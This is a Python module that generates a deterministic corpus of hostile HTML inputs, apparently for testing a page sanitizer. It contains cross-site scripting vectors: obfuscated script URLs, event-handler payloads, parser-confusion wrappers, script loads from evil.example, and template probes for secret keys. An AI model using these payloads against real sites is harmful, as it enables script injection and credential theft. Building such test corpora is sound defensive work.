"""Hostile markup, generated the same way on every run: what a contributor, an imported export
or a feed can try to slip into a page.

Families, combined by rule rather than listed by hand: script-URL obfuscations in every
attribute that takes a URL, event handlers on the elements that fire them, the classic
cheat-sheet vectors, and those vectors wrapped in parser tricks (comments, CDATA, SVG and
MathML namespace confusion, raw-text elements, unclosed tags), template syntax, breakers of the
JSON-LD script element, and Unicode oddities.
"""

import itertools

SCRIPT_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "JAVASCRIPT:alert(1)",
    " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java\rscript:alert(1)", "\x01javascript:alert(1)",
    "javascript\x00:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)", "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "&#14;javascript:alert(1)",
    "javascript&#58;alert(1)", "javas&#99;ript:alert(1)", "\u2028javascript:alert(1)",
    "vbscript:msgbox(1)", "VBScript:msgbox(1)", "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<svg onload=alert(1)>", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<script>alert(1)</script>",
    "//evil.example/%0aalert(1)", "javascript://%0aalert(1)",
]
URL_CONTEXTS = [
    '<a href={q}{url}{q}>read more</a>', '<img src={q}{url}{q}>', '<iframe src={q}{url}{q}>',
    '<form action={q}{url}{q}><button>go</button></form>',
    '<button formaction={q}{url}{q}>go</button>',
    '<svg><a xlink:href={q}{url}{q}><text y="20">go</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href={q}{url}{q}>go</maction></math>',
    '<object data={q}{url}{q}></object>', '<embed src={q}{url}{q}>',
    '<div style={q}background:url({url}){q}>x</div>',
    '<meta http-equiv="refresh" content={q}0;url={url}{q}>', '<base href={q}{url}{q}>',
    '<link rel="stylesheet" href={q}{url}{q}>', '<input type="image" src={q}{url}{q}>',
    '<video poster={q}{url}{q}></video>', '<table background={q}{url}{q}><tr><td>x</td></tr>',
]
QUOTES = ['"', "'", ""]

EVENT_HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart",
    "ontoggle", "onbegin", "onpageshow", "onpointerenter", "onauxclick", "onbeforeprint",
    "oncopy", "ondrag", "oninput", "oninvalid", "onkeydown", "onmouseenter", "onplay",
    "onscroll", "onsearch", "onselect", "onstart", "ontransitionend", "onwheel",
    "onfocusin", "onresize", "onhashchange", "onunload",
]
HANDLER_TAGS = [
    '<img src=x {handler}>', '<svg {handler}>', '<body {handler}>',
    '<details open {handler}><summary>x</summary></details>', '<video src=x {handler}>',
    '<input autofocus {handler}>', '<marquee {handler}>x</marquee>', '<div {handler}>x</div>',
    '<a href="#" {handler}>x</a>', '<iframe {handler}>', '<select autofocus {handler}>',
    '<style {handler}></style>',
]
HANDLER_SPELLINGS = [
    "{name}=alert(1)", '{name}="alert(1)"', "/{name}=alert(1)", "{upper}=alert`1`",
]

CHEAT_SHEET = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/xss src=//evil.example/x.js></script>", "<<script>alert(1)//<</script>",
    '<img src="x" onerror="alert(1)">', "<img src=x onerror=alert(1)//",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">', "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object type=text/html data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="behavior:url(x.htc)">x</p>', "<xss style=\"xss:expression(alert(1))\">",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>", "<a href=\"  javascript:alert(1)\">x</a>",
    "<img dynsrc=\"javascript:alert(1)\">", "<img lowsrc=\"javascript:alert(1)\">",
    "<bgsound src=\"javascript:alert(1)\">", "<br size=\"&{alert(1)}\">",
    "<layer src=\"//evil.example/x.html\"></layer>",
    "<link rel=import href=//evil.example/x.html>", "<applet code=x.class></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<img src=`x`onerror=alert(1)>", "<img src=x:alert(1) onerror=eval(src)>",
    "<img\x00src=x onerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"
    "</foreignObject></svg>",
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>", "<body background=javascript:alert(1)>",
    "<div id=x tabindex=1 onfocus=alert(1)></div>", "<audio src=x onerror=alert(1)>",
    "<input type=hidden accesskey=x onclick=alert(1)>",
]

PARSER_TRICKS = [
    "<!--{v}-->", "<!--<img src=\"-->{v}\">", "<!-- --!>{v}", "<!--->{v}",
    "<![CDATA[><]]>{v}", "<![CDATA[{v}]]>", "<svg><![CDATA[><]]>{v}</svg>",
    "<svg><style>{v}</style></svg>", "<math><mtext><table><mglyph><style>{v}",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea>{v}\">",
    "<svg></p><style><a id=\"</style>{v}\">", "<form><math><mtext></form><form><mglyph>"
    "<style></math>{v}", "<noscript><style></noscript>{v}", "<select><template>{v}",
    "<table><td>{v}", "<p>{v}", "<a href=\"x\">{v}", "<div title=\"{v}\">", "{v}<!--",
    "</p></div></body></html>{v}", "<plaintext>{v}", "<iframe>{v}</iframe>",
    "<object><param name=x value=\"{v}\"></object>", "<b>{v}", "</textarea>{v}",
    "</title></style></script>{v}",
]
TEMPLATE_SYNTAX = [
    "{{ 7*7 }}", "{% debug %}", "{{ request.META }}", "{% load static %}{% static 'x' %}",
    "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor."
    "constructor('alert(1)')()}}", "[[${7*7}]]",
]
JSON_LD_BREAKERS = [
    "</script><script>alert(1)</script>", "</SCRIPT ><script>alert(1)</script>",
    "\"}</script><img src=x onerror=alert(1)>", "<!--<script>", "\\u003c/script\\u003e",
    "\u2028\u2029\"}]}", "\"},{\"@type\":\"Person\",\"name\":\"x", "</script\x00>",
    "\\\"</script>", "<\\/script><script>alert(1)</script>",
]
UNICODE_ODDITIES = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u202ecript>alert(1)</script<",
    "\u200b<script>alert(1)</script>", "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u0000<script>alert(1)</script>", "\ufeff<img src=x onerror=alert(1)>",
    "<img src=x one\u0301rror=alert(1)>", "\U0001f4a5<svg onload=alert(1)>",
    "\u3008script\u3009alert(1)", "<a href=\"\u0130avascript:alert(1)\">x</a>",
    "\ud7ff\ue000\ue001<mark>x</mark>",
]


def url_vectors():
    for context, url, quote in itertools.product(URL_CONTEXTS, SCRIPT_URLS, QUOTES):
        yield context.format(q=quote, url=url)


def handler_vectors():
    for tag, name, spelling in itertools.product(HANDLER_TAGS, EVENT_HANDLERS, HANDLER_SPELLINGS):
        yield tag.format(handler=spelling.format(name=name, upper=name.upper()))


def wrapped_vectors():
    core = CHEAT_SHEET + JSON_LD_BREAKERS + UNICODE_ODDITIES
    for trick, vector in itertools.product(PARSER_TRICKS, core):
        yield trick.replace("{v}", vector)
    for vector in core:
        # Unclosed: the tag runs into whatever the page prints next.
        yield vector.rstrip(">")
        for template in TEMPLATE_SYNTAX:
            yield template + vector


def hostile_inputs():
    """Every input, deduplicated, in a fixed order."""
    families = itertools.chain(
        CHEAT_SHEET, TEMPLATE_SYNTAX, JSON_LD_BREAKERS, UNICODE_ODDITIES,
        url_vectors(), handler_vectors(), wrapped_vectors(),
    )
    return list(dict.fromkeys(families))


def batches(inputs, size):
    return [inputs[start:start + size] for start in range(0, len(inputs), size)]
